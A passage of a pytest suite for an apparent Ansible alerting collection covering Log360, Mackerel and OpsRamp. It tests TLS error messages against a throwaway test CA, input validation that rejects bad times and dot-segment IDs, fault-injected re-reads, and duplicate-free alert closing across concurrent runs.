    for name, outcome in outcomes.items():
        assert outcome['failed'] is True, name
        assert 'unexpected error' not in outcome['msg'], outcome
        if name.startswith('log360_api_v2'):
            assert '/api/v2' in outcome['msg'] and 'option url' in outcome['msg'], outcome
        else:
            assert expect['_'.join(name.split('_')[:2])] in outcome['msg'], outcome
    assert count_fragments(text) == []


# ------------------------------------------------------------------------------------------------- TLS, per platform
@pytest.fixture(scope='module')
def pki(tmp_path_factory):
    """A test CA, a certificate for another host name and an expired one (both from that CA); keys removed after."""
    folder = tmp_path_factory.mktemp('pki')
    yield make_pki(str(folder))
    for name in os.listdir(str(folder)):
        os.unlink(os.path.join(str(folder), name))


def make_pki(folder):
    import datetime
    from cryptography import x509
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import ec
    from cryptography.x509.oid import NameOID
    import ipaddress

    now = datetime.datetime.now(datetime.timezone.utc)

    def name(cn):
        return x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, cn)])

    def write(stem, key, cert):
        with open(os.path.join(folder, stem + '.key'), 'wb') as handle:
            handle.write(key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
                                           serialization.NoEncryption()))
        with open(os.path.join(folder, stem + '.crt'), 'wb') as handle:
            handle.write(cert.public_bytes(serialization.Encoding.PEM))
        return os.path.join(folder, stem + '.crt'), os.path.join(folder, stem + '.key')

    ca_key = ec.generate_private_key(ec.SECP256R1())
    ca = (x509.CertificateBuilder().subject_name(name('alertops test CA')).issuer_name(name('alertops test CA'))
          .public_key(ca_key.public_key()).serial_number(x509.random_serial_number())
          .not_valid_before(now - datetime.timedelta(days=30)).not_valid_after(now + datetime.timedelta(days=30))
          .add_extension(x509.BasicConstraints(ca=True, path_length=None), critical=True)
          .add_extension(x509.KeyUsage(digital_signature=True, key_cert_sign=True, crl_sign=True, content_commitment=False,
                                       key_encipherment=False, data_encipherment=False, key_agreement=False,
                                       encipher_only=False, decipher_only=False), critical=True)
          .sign(ca_key, hashes.SHA256()))
    out = {'ca': write('ca', ca_key, ca)[0]}
    for stem, sans, start, end in (
            ('other_host', [x509.DNSName('siem.example.com')], -1, 30),
            ('expired', [x509.IPAddress(ipaddress.ip_address('127.0.0.1'))], -30, -2)):
        key = ec.generate_private_key(ec.SECP256R1())
        cert = (x509.CertificateBuilder().subject_name(name(stem)).issuer_name(ca.subject).public_key(key.public_key())
                .serial_number(x509.random_serial_number())
                .not_valid_before(now + datetime.timedelta(days=start)).not_valid_after(now + datetime.timedelta(days=end))
                .add_extension(x509.SubjectAlternativeName(sans), critical=False)
                .sign(ca_key, hashes.SHA256()))
        out[stem] = write(stem, key, cert)
    return out


def test_tls_failures_name_their_cause(play, hostile_server, tmp_path, tls_sim, pki):
    plain = hostile_server()
    other_host = hostile_server(tls=pki['other_host'])
    expired = hostile_server(tls=pki['expired'])
    cases = (every_platform('https_to_plain', plain.url.replace('http://', 'https://'))
             + every_platform('http_to_tls', tls_sim.url.replace('https://', 'http://'))
             + every_platform('untrusted', tls_sim.url)
             + every_platform('host_mismatch', other_host.url, ca_path=pki['ca'])
             + every_platform('expired', expired.url, ca_path=pki['ca']))
    outcomes, text, _elapsed = run_hostile(play, tmp_path, cases)
    expect = {'https_to_plain': ('plain HTTP', 'http://'), 'http_to_tls': ('speaks HTTPS', 'https://'),
              'untrusted': ('not trusted', 'ca_path'), 'host_mismatch': ('not valid for', '127.0.0.1'),
              'expired': ('expired', 'renew')}
    for name, outcome in outcomes.items():
        kind = next(k for k in expect if name.startswith(k))
        assert outcome['failed'] is True, name
        for word in expect[kind]:
            assert word.lower() in outcome['msg'].lower(), (name, outcome)
        if kind != 'untrusted':
            assert 'validate_certs: false' not in outcome['msg'], (name, outcome)
        if 'lookup' in name:
            assert "failed: alertops.core.alerts: " in outcome['msg'], outcome
    assert plain.seen == []
    assert count_fragments(text) == []


def test_each_platform_trusts_its_own_ca(sim, play, tmp_path_factory):
    """Log360 behind one internal CA and Mackerel behind another: the per-platform variables configure both in
    one run, and the common ALERTOPS_CA_PATH stays the fallback (here the wrong CA for Mackerel)."""
    proc_a, tls_a = start_simulator(str(tmp_path_factory.mktemp('tls-a')), ['--tls'])
    proc_b, tls_b = start_simulator(str(tmp_path_factory.mktemp('tls-b')), ['--tls'])
    try:
        assert open(tls_a.cert).read() != open(tls_b.cert).read()
        env = {'LOG360_URL': tls_a.url, 'LOG360_CA_PATH': tls_a.cert, 'MACKEREL_APIBASE': tls_b.url,
               'MACKEREL_CA_PATH': tls_b.cert, 'ALERTOPS_CA_PATH': tls_a.cert, 'OPSRAMP_URL': tls_a.url,
               'LOG360_TOKEN': tls_control(tls_a, '/_sim/log360/credentials')['env']['LOG360_TOKEN'],
               'MACKEREL_APIKEY': tls_control(tls_b, '/_sim/mackerel/credentials')['env']['MACKEREL_APIKEY']}
        env.update(tls_control(tls_a, '/_sim/opsramp/credentials')['env'])
        result = play('hardening_tls_platforms.yml', env=env)
        FIGURES['cases'] += 1
        assert_ok(result)
        assert [r['path'] for r in tls_control(tls_a, '/_sim/requests')['requests'] if r['platform'] == 'log360']
        assert [r['path'] for r in tls_control(tls_b, '/_sim/requests')['requests'] if r['platform'] == 'mackerel']
        # the common variable alone: Mackerel (other CA) fails with the CA advice, Log360 still works
        env.pop('MACKEREL_CA_PATH')
        result = play('hardening_tls_platforms.yml', env=env, extra_vars={'expect_mackerel_failure': True})
        assert_ok(result)
    finally:
        for proc in (proc_a, proc_b):
            proc.terminate()
            proc.wait(10)


def test_the_tls_simulator_removes_its_private_key(tmp_path):
    proc, tls = start_simulator(str(tmp_path), ['--tls'])
    try:
        folder = os.path.dirname(tls.cert)
        assert os.listdir(folder) == ['sim.crt']                  # the key is in memory only, once loaded
    finally:
        proc.terminate()
        proc.wait(10)
    assert not os.path.exists(folder)


# ------------------------------------------------------------------------------------------------- edges
EDGE_EXPECT = {
    't_no_zone': ['log360: option start_time', 'has no time zone; add Z for UTC'],
    't_offset': ['log360: option start_time', 'offset +99:99'],
    't_between': ['mackerel: option opened_after', 'neither epoch seconds'],
    't_bad_date': ['mackerel: option opened_after', 'not a valid date'],
    't_opsramp_no_zone': ['opsramp: option start_time', 'has no time zone'],
    't_lookup_no_zone': ['alertops.core.alerts', 'option opened_after', 'has no time zone'],
    'i_mackerel_dotdot': ['mackerel: option id', 'dot segment'],
    'i_mackerel_dot': ['mackerel: option id', 'dot segment'],
    'i_opsramp_tenant': ['opsramp: option tenant_id', 'dot segment'],
    'i_opsramp_id': ['opsramp: option id', 'dot segment'],
    'i_lookup_dotdot': ['alertops.core.alerts', 'option id', 'dot segment'],
    'i_log360_dotdot': ['log360: option request_id', 'dot segment'],
    'm_max_items_negative': ['mackerel: option max_items must be at least 1, got -1'],
    'o_max_items_negative': ['opsramp: option max_items must be at least 1, got -5'],
    'k_max_items_negative': ['alertops.core.alerts', 'option max_items must be at least 1, got -1'],
    'c_log360_url': ['log360: option url must start with http:// or https://'],
    'c_mackerel_retries': ['mackerel: option retries must not be negative, got -1'],
    'c_opsramp_base_url': ['opsramp: option url must be the base URL of the server without /api/v2'],
    'c_lookup_timeout': ['alertops.core.alerts', 'opsramp: option request_timeout'],
    'k_platform_misspelt': ["alertops.core.alerts: option platform must be one of log360, mackerel, opsramp, got 'mackrel'"],
}


def test_edges_times_ids_max_items(sim, play):
    before = (sim.control('mackerel', 'alerts'), sim.control('opsramp', 'alerts'))
    sim.clear_log()
    result = play('hardening_edges.yml', extra_vars={'expect': EDGE_EXPECT})
    FIGURES['cases'] += len(EDGE_EXPECT) + 1
    assert_ok(result)
    log = sim.requests()
    # the one valid search is the only request: every bad case failed before sending anything
    assert [(r['platform'], r['method'], r['path']) for r in log] == [('log360', 'POST', '/api/v2/alerts/async')]
    body = json.loads(log[0]['body'])
    assert (body['start_time'], body['end_time']) == ('2026-11-23T00:00:00Z', '9999-12-31T23:59:59Z')
    assert (sim.control('mackerel', 'alerts'), sim.control('opsramp', 'alerts')) == before


# ------------------------------------------------------------------------------------------------- re-reads and claims
def test_unreadable_and_lost_answers_are_re_read(sim, play):
    now = int(time.time())
    m_ids = [a['id'] for a in sim.control('mackerel', 'raise', {'count': 4, 'host_id': 'rereadHost01',
                                                                'at': now - 60})['alerts']]
    raised = sim.control('opsramp', 'raise', {'count': 3, 'device': 'reread-01', 'at': now - 60})['alerts']
    o_ids = [a['uniqueId'] for a in raised]
    jobs = [sim.control('log360', 'jobs', {'hits': 5, 'duration': 0})['request_id'] for _n in range(2)]
    sim.configure(variants={'opsramp_action_response': 'alert'}, faults={'script': [
        {'platform': 'mackerel', 'method': 'POST', 'path': '/close$', 'fault': 'unreadable', 'count': 2},
        {'platform': 'log360', 'method': 'DELETE', 'query': 'request_id=%s' % jobs[0], 'fault': 'drop_after'},
        {'platform': 'log360', 'method': 'DELETE', 'query': 'request_id=%s' % jobs[1], 'fault': 'unreadable'},
        {'platform': 'opsramp', 'method': 'POST', 'path': '/actions/acknowledge$', 'fault': 'unreadable'},
    ]})
    sim.clear_log()
    result = play('hardening_reread.yml', extra_vars={'m_ids': m_ids, 'o_ids': o_ids, 'l_jobs': jobs})
    log = sim.requests()
    FIGURES['cases'] += 3
    FIGURES['faults_injected'] += len([r for r in log if r['fault']])
    assert_ok(result)
    assert len([r for r in log if r['fault']]) == 5
    # every write acted once: nothing was sent again after an unreadable answer that the re-read explained
    assert sorted(MACKEREL_CLOSE.match(r['path']).group(1) for r in log if r['method'] == 'POST'
                  and r['platform'] == 'mackerel') == sorted(m_ids)
    assert len([r for r in log if r['method'] == 'DELETE']) == 2
    assert sorted(OPSRAMP_ACTION.search(r['path']).group(1) for r in log if r['platform'] == 'opsramp'
                  and r['method'] == 'POST' and OPSRAMP_ACTION.search(r['path'])) == sorted(o_ids)
    assert [j for j in sim.control('log360', 'jobs')['jobs'] if j['request_id'] in jobs] == []


def test_two_runs_closing_the_same_alerts_claim_each_close_once(sim, play, tmp_path):
    """A server that answers 200 to closing a closed alert: the answers do not tell who closed it; the ledger does."""
    now = int(time.time())
    m_ids = [a['id'] for a in sim.control('mackerel', 'raise', {'count': 300, 'host_id': 'raceHost01',
                                                                'at': now - 120})['alerts']]
    raised = sim.control('opsramp', 'raise', {'count': 100, 'device': 'race-01', 'at': now - 120})['alerts']
    o_ids = [a['uniqueId'] for a in raised]
    sim.configure(variants={'mackerel_close_closed': '200', 'opsramp_closed_action': 'ok'}, faults={'script': [
        {'platform': 'mackerel', 'method': 'POST', 'path': '/close$', 'fault': 'unreadable', 'count': 5},
        {'platform': 'opsramp', 'method': 'POST', 'path': '/actions/close$', 'fault': 'unreadable', 'count': 3},
    ]})
    sim.clear_log()
    results = {}

    def run(name):
        results[name] = play('hardening_claims.yml', extra_vars={'m_ids': m_ids, 'o_ids': o_ids, 'run_name': name,
                                                                 'sequence': name})
    threads = [threading.Thread(target=run, args=(name,)) for name in ('run_a', 'run_b')]
    for thread in threads:
        thread.start()
        time.sleep(0.05)     # distinct vars files
    for thread in threads:
        thread.join(600)
    FIGURES['cases'] += 2
    for name in ('run_a', 'run_b'):
        assert_ok(results[name])
    claimed = [json.loads((tmp_path / (name + '.json')).read_text()) for name in ('run_a', 'run_b')]
    for platform, target in (('mackerel', m_ids), ('opsramp', o_ids)):
        both = collections.Counter(i for c in claimed for i in c[platform])
        FIGURES['claims_doubled'] += len([i for i, n in both.items() if n > 1])
        assert sorted(both) == sorted(target)                            # every close claimed by a run...
        assert set(both.values()) == {1}                                 # ...and by one run only
    assert sum(c['mackerel_count'] for c in claimed) == len(m_ids)
    log = sim.requests()
    closes = collections.Counter(MACKEREL_CLOSE.match(r['path']).group(1) for r in log
                                 if r['method'] == 'POST' and r['platform'] == 'mackerel')
    assert set(closes.values()) == {1} and sorted(closes) == sorted(m_ids)    # one close sent per alert in all
    after = dict((a['id'], a) for a in sim.control('mackerel', 'alerts')['alerts'])
    assert all(after[i]['status'] == 'OK' and after[i]['reason'] == 'CHG-RACE: both runs' for i in m_ids)
